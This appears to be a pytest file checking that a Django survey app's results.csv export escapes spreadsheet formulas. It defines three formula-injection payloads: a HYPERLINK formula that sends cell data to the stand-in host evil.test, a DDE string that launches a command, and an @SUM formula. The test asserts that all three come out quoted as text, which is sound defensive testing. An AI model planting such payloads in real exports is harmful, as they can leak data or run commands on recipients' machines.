"""results.csv: the suppressed figures, with every text a spreadsheet would run as a formula
written as text (smarketing.core.csv_export)."""

import csv
import io

from django_tenants.utils import schema_context

from smarketing.funnel.models import Lead
from surveys import services, tokens
from surveys.models import Invitee
from tests.conftest import ALPHA_HOST, client_for

from .helpers import admin_of

HOSTILE = {
    "source": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "campaign": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)",
}


def test_lead_fields_reach_the_csv_as_text_not_formulas(alpha):
    admin = admin_of(alpha)
    with schema_context(alpha.schema_name):
        Lead.objects.bulk_create(
            Lead(lead_id=f"H{n}", created_at="2025-01-01T00:00Z", **HOSTILE) for n in range(3)
        )
        survey = services.survey_create(
            created_by=admin, kind="nps", title="-Hostile", anonymity_threshold=3
        )
        services.survey_customers_add(
            survey=survey,
            added_by=admin,
            customers=[{"email": f"h{n}@customer.test", "lead_id": f"H{n}"} for n in range(3)],
        )
        survey = services.survey_open(survey=survey, opened_by=admin)
        for invitee in Invitee.objects.filter(survey=survey):
            token = tokens.invitee_token(survey_id=survey.pk, nonce=invitee.nonce)
            services.survey_response_submit(token=token, score=3)
        services.survey_close(survey=survey, closed_by=admin)
    response = client_for(ALPHA_HOST, admin).get(f"/surveys/{survey.pk}/results.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    groups = {row[0]: row for row in rows[1:] if row[0] in ("source", "campaign", "owner")}
    for field, value in HOSTILE.items():
        assert groups[field][1] == "'" + value
    assert ["overall", "all", "3", "-100.0", ""] in rows  # a negative number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
